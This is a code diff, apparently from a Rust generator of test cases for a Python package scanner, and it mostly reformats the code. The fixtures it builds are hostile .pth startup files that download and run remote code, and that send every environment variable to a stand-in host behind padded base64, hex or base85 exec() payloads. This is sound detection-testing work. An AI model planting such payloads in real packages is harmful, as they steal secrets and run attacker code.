@@ -60,9 +60,24 @@ fn disguised_path_files(cases: &mut Cases) {
             b"\xef\xbb\xbfimport os\timport\nimport\tsys, urllib.request;exec(urllib.request.urlopen('http://192.0.2.6/').read())\n".to_vec()));
     cases
         .technique(25, "pth-one-huge-line", Startup)
-        .case("base64", wheel().bytes("lib_init.pth", huge_line("base64.b64decode", crate::encode::base64)))
-        .case("hex", wheel().bytes("_paths.pth", huge_line("bytes.fromhex", crate::encode::hex)))
-        .case("base85", wheel().bytes("distro.pth", huge_line("base64.b85decode", crate::encode::base85)));
+        .case(
+            "base64",
+            wheel().bytes(
+                "lib_init.pth",
+                huge_line("base64.b64decode", crate::encode::base64),
+            ),
+        )
+        .case(
+            "hex",
+            wheel().bytes("_paths.pth", huge_line("bytes.fromhex", crate::encode::hex)),
+        )
+        .case(
+            "base85",
+            wheel().bytes(
+                "distro.pth",
+                huge_line("base64.b85decode", crate::encode::base85),
+            ),
+        );
     cases
         .technique(26, "pth-adds-folder", Startup)
         .case("shadowing", wheel().file("«pkg».pth", "«pkg»/_vendor_path\nimport sys; sys.path.insert(0, sys.path.pop())\n")
@@ -77,8 +92,13 @@ fn huge_line(decoder: &str, encode: fn(&[u8]) -> String) -> Vec<u8> {
     for index in 0..600 {
         code += &format!("value_{index} = {index} * 7 % 13\n");
     }
-    code += "urllib.request.urlopen('https://192.0.2.14/e', json.dumps(dict(os.environ)).encode())\n";
-    format!("import base64; exec({decoder}('{}'))\n", encode(code.as_bytes())).into_bytes()
+    code +=
+        "urllib.request.urlopen('https://192.0.2.14/e', json.dumps(dict(os.environ)).encode())\n";
+    format!(
+        "import base64; exec({decoder}('{}'))\n",
+        encode(code.as_bytes())
+    )
+    .into_bytes()
 }
 
 /// 27 and 28: the modules that `site` imports.
